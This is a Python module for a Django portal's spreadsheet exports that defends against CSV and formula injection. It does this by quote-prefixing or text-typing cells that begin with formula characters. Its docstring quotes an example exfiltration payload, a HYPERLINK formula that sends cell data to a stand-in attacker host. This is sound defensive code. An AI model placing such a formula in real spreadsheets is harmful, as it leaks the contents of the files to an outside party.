"""The one writer of every spreadsheet the portal hands out (.xlsx and .csv), and its download.

Users type the text that ends up in these files — case titles, unit names, judges' names and
comments, captions — and organizers open the files in Excel or WPS. A cell holding
``=HYPERLINK("http://evil.example/?"&A1,"点我")`` must show that text, never run it. So every
value goes through `cell_value` here, and nothing else in the project builds a workbook, a CSV
or their responses (tests/test_spreadsheet.py fails when something does):

- numbers (int, float, Decimal) stay real numeric cells, so sums and sorting work;
- text is stored as text. Text starting with one of ``= + - @``, a tab or a carriage return
  (the characters OWASP's "CSV Injection" guidance names) is what a spreadsheet would read as
  a formula. In an .xlsx it becomes an explicit string cell (``t="inlineStr"``, never an
  ``<f>`` formula: no spreadsheet program evaluates a string cell, and every string openpyxl
  writes is such a cell, which is what organizers have always opened in Excel and WPS). The
  cell also carries the *quote prefix* style, the one Excel itself records when someone types
  ``'=1``: the cell shows the text exactly as typed, with no visible apostrophe, and editing
  it and pressing Enter keeps it text instead of turning it into a live formula (Excel; WPS
  and LibreOffice read the same attribute of the file format). We do not put a literal ``'``
  in front in an .xlsx: Excel and WPS would show that apostrophe as part of the text, and the
  civil servant would read ``'-3分`` where the judge wrote ``-3分``.
- a .csv has no cell types, so there the OWASP prefix is the only defence: such text gets a
  leading ``'``, which Excel and WPS show; the rest of the text is unchanged.
- characters an .xlsx cannot hold (control characters) are dropped, and text is cut at
  Excel's 32,767 characters a cell, so a download never fails on what a user typed.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterable, Sequence
from copy import copy
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.xml.functions import tostring as xml_tostring

from .text import sheet_title, xml_text

#: What a spreadsheet reads as the start of a formula (OWASP, CSV Injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Excel holds at most 32,767 characters in a cell.
CELL_MAX = 32_767

_XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: The content type of a workbook, for files served as they were stored (call documents).
XLSX_CONTENT_TYPE = _XLSX_TYPE
_CSV_TYPE = "text/csv; charset=utf-8"

Number = int | float | Decimal
Value = str | Number | bool | date | datetime | None


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula (or the start of one)."""
    return text.startswith(FORMULA_TRIGGERS)


def cell_value(value: Any) -> Value:
    """`value` as a cell holds it: numbers as numbers, everything else as clean text."""
    if isinstance(value, datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)  # Excel has no time zones
    if value is None or isinstance(value, bool | int | float | date):
        return value
    if isinstance(value, Decimal):
        return float(value)  # Excel has no decimals
    text = xml_text(str(value))  # str() also for lazy translations
    return text[:CELL_MAX]


@dataclass(frozen=True)
class Styled:
    """A value with a look: bold, wrapped, or a number format such as ``0.00``."""

    value: Any
    bold: bool = False
    wrap: bool = False
    fmt: str | None = None


def styled(value: Any, *, bold: bool = False, wrap: bool = False, fmt: str | None = None) -> Styled:
    return Styled(value, bold=bold, wrap=wrap, fmt=fmt)


class Sheet:
    """One worksheet, written row by row."""

    def __init__(self, book: XlsxBook, ws: Any) -> None:
        self._book = book
        self._ws = ws

    def append(self, row: Iterable[Any]) -> None:
        self._ws.append([self._cell(v) for v in row])

    def validate(
        self,
        cells: str,
        *,
        kind: str,
        choices: Sequence[str] = (),
        minimum: Number | None = None,
        maximum: Number | None = None,
        title: str = "",
        message: str = "",
    ) -> None:
        """Data validation on `cells` (e.g. "C2:C500"): Excel and WPS refuse other input and
        show `message`. `kind` is "list" (a dropdown of `choices`, kept in a hidden sheet so
        that commas and quotes in a choice are safe), "date", "whole" or "decimal" (between
        `minimum` and `maximum` when given). Empty cells are always allowed."""
        if kind not in VALIDATION_KINDS:
            raise ValueError(f"unknown validation kind {kind!r}")
        options: dict[str, Any] = {"type": kind, "allow_blank": True}
        if kind == "list":
            options["formula1"] = self._book._choice_range(choices)
        elif kind == "date":
            # From 1900-01-01 (serial 1) to 9999-12-31: any real date.
            options.update(operator="between", formula1="1", formula2="2958465")
        else:
            low = -NUMBER_LIMIT if minimum is None else minimum
            high = NUMBER_LIMIT if maximum is None else maximum
            options.update(operator="between", formula1=_number(low), formula2=_number(high))
        validation = DataValidation(**options)
        validation.showErrorMessage = True
        validation.errorStyle = "stop"
        if title:
            validation.errorTitle = xml_text(title)[:32]
            validation.promptTitle = xml_text(title)[:32]
        if message:
            validation.error = xml_text(message)[:255]
            validation.prompt = xml_text(message)[:255]
            validation.showInputMessage = True
        validation.add(cells)
        self._ws.data_validations.append(validation)

    def _cell(self, item: Any) -> Any:
        look = item if isinstance(item, Styled) else None
        value = cell_value(look.value if look else item)
        text_guard = isinstance(value, str) and is_formula_like(value)
        # openpyxl would store "#N/A" and the like as an error, not as the text typed.
        as_text = text_guard or (isinstance(value, str) and value in ERROR_CODES)
        if look is None and not as_text:
            return value  # the fast path: openpyxl types a plain value itself
        if value is None and look is not None and look.fmt is None:
            return None
        # The stubs leave out the int and date values openpyxl takes.
        cell = WriteOnlyCell(self._ws, value=value)  # type: ignore[arg-type]
        key = (
            bool(look and look.bold),
            bool(look and look.wrap),
            look.fmt if look else None,
            text_guard,
        )
        # Styling cell by cell is slow in openpyxl; copying a prepared style is not (a
        # 10,000-case export stays in seconds).
        # A cell's style array has no public API (and no stub).
        cell._style = copy(self._book._style(key))  # type: ignore[attr-defined]
        if as_text:
            cell.data_type = "s"  # text, never a formula (openpyxl makes "=…" a formula)
        return cell


#: The kinds of data validation `Sheet.validate` sets.
VALIDATION_KINDS = ("list", "date", "whole", "decimal")
#: The widest number a validated number cell takes without limits of its own.
NUMBER_LIMIT = 9_999_999_999
#: The hidden sheet that holds the dropdowns' choices.
CHOICES_SHEET = "选项"


def column_letter(index: int) -> str:
    """The letters of the `index`-th column (1 → "A", 27 → "AA")."""
    return get_column_letter(index)


def _number(value: Number) -> str:
    """A number as a validation formula holds it."""
    if isinstance(value, Decimal):
        return format(value.normalize(), "f")
    return str(value)


class XlsxBook:
    """An .xlsx workbook in openpyxl's write-only mode (rows are streamed, not kept as cell
    objects, so 10,000 rows take seconds and little memory)."""

    def __init__(self) -> None:
        self._wb = _OpenpyxlWorkbook(write_only=True)
        self._styles: dict[tuple[bool, bool, str | None, bool], Any] = {}
        self._prototype_ws: Any = None
        self._choices: Sheet | None = None
        self._choice_rows = 0

    def sheet(
        self, title: str, *, widths: Sequence[float] = (), freeze: str | None = None
    ) -> Sheet:
        ws = self._wb.create_sheet(sheet_title(title))
        for i, width in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        if freeze:
            ws.freeze_panes = freeze
        if self._prototype_ws is None:
            self._prototype_ws = ws
        return Sheet(self, ws)

    def _style(self, key: tuple[bool, bool, str | None, bool]) -> Any:
        if key not in self._styles:
            bold, wrap, fmt, text_guard = key
            prototype = WriteOnlyCell(self._prototype_ws, value=0)
            if bold:
                prototype.font = Font(bold=True)
            if wrap:
                prototype.alignment = Alignment(wrap_text=True, vertical="top")
            if fmt:
                prototype.number_format = fmt
            if text_guard:
                prototype.quotePrefix = True
            # A cell's style array has no public API (and no stub).
            self._styles[key] = prototype._style  # type: ignore[attr-defined]
        return self._styles[key]

    def _choice_range(self, choices: Sequence[str]) -> str:
        """A reference to a row of the hidden choices sheet holding `choices`."""
        if not choices:
            raise ValueError("a dropdown needs choices")
        if self._choices is None:
            self._choices = self.sheet(CHOICES_SHEET)
            self._choices._ws.sheet_state = "hidden"
        self._choices.append(choices)
        self._choice_rows += 1
        row = self._choice_rows
        last = get_column_letter(len(choices))
        return f"'{CHOICES_SHEET}'!$A${row}:${last}${row}"

    def to_bytes(self, *, fixed_time: datetime | None = None) -> bytes:
        """The file. With `fixed_time`, byte for byte the same every time it is made from the
        same rows: the document's created/modified properties and every zip entry's timestamp
        are that moment instead of now (a signed sheet's SHA-256 can then be checked)."""
        if fixed_time is not None:
            utc = fixed_time.astimezone(UTC).replace(tzinfo=None, microsecond=0)
            self._wb.properties.created = self._wb.properties.modified = utc
        buffer = io.BytesIO()
        self._wb.save(buffer)
        if fixed_time is None:
            return buffer.getvalue()
        stamp = timezone.localtime(fixed_time).timetuple()[:6]
        out = io.BytesIO()
        with (
            zipfile.ZipFile(buffer) as source,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
        ):
            for info in source.infolist():
                entry = zipfile.ZipInfo(info.filename, date_time=stamp)
                entry.compress_type = zipfile.ZIP_DEFLATED
                entry.external_attr = info.external_attr
                data = source.read(info.filename)
                if info.filename == "docProps/core.xml":
                    # openpyxl stamps "modified" with the time of saving: written again.
                    self._wb.properties.modified = utc
                    data = xml_tostring(self._wb.properties.to_tree())
                target.writestr(entry, data)
        return out.getvalue()


def csv_text(value: Any) -> str:
    """One CSV field: numbers as written, text with the OWASP quote before a formula start."""
    clean = cell_value(value)
    if clean is None:
        return ""
    if isinstance(clean, str):
        return "'" + clean if is_formula_like(clean) else clean
    return str(clean)


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file in UTF-8 with a byte-order mark (so Chinese Excel opens it as UTF-8)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def response(content: bytes, filename: str) -> HttpResponse:
    """A download of a file made here; the type follows the name's .xlsx or .csv."""
    if filename.endswith(".xlsx"):
        content_type = _XLSX_TYPE
    elif filename.endswith(".csv"):
        content_type = _CSV_TYPE
    else:
        raise ValueError(f"not a spreadsheet file name: {filename!r}")
    reply = HttpResponse(content, content_type=content_type)
    stem, dot, suffix = filename.rpartition(".")
    ascii_stem = "".join(c for c in stem if " " <= c <= "~" and c not in '"\\')
    fallback = (ascii_stem or "export") + dot + suffix
    reply["Content-Disposition"] = (
        f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename)}"
    )
    reply["X-Content-Type-Options"] = "nosniff"
    return reply
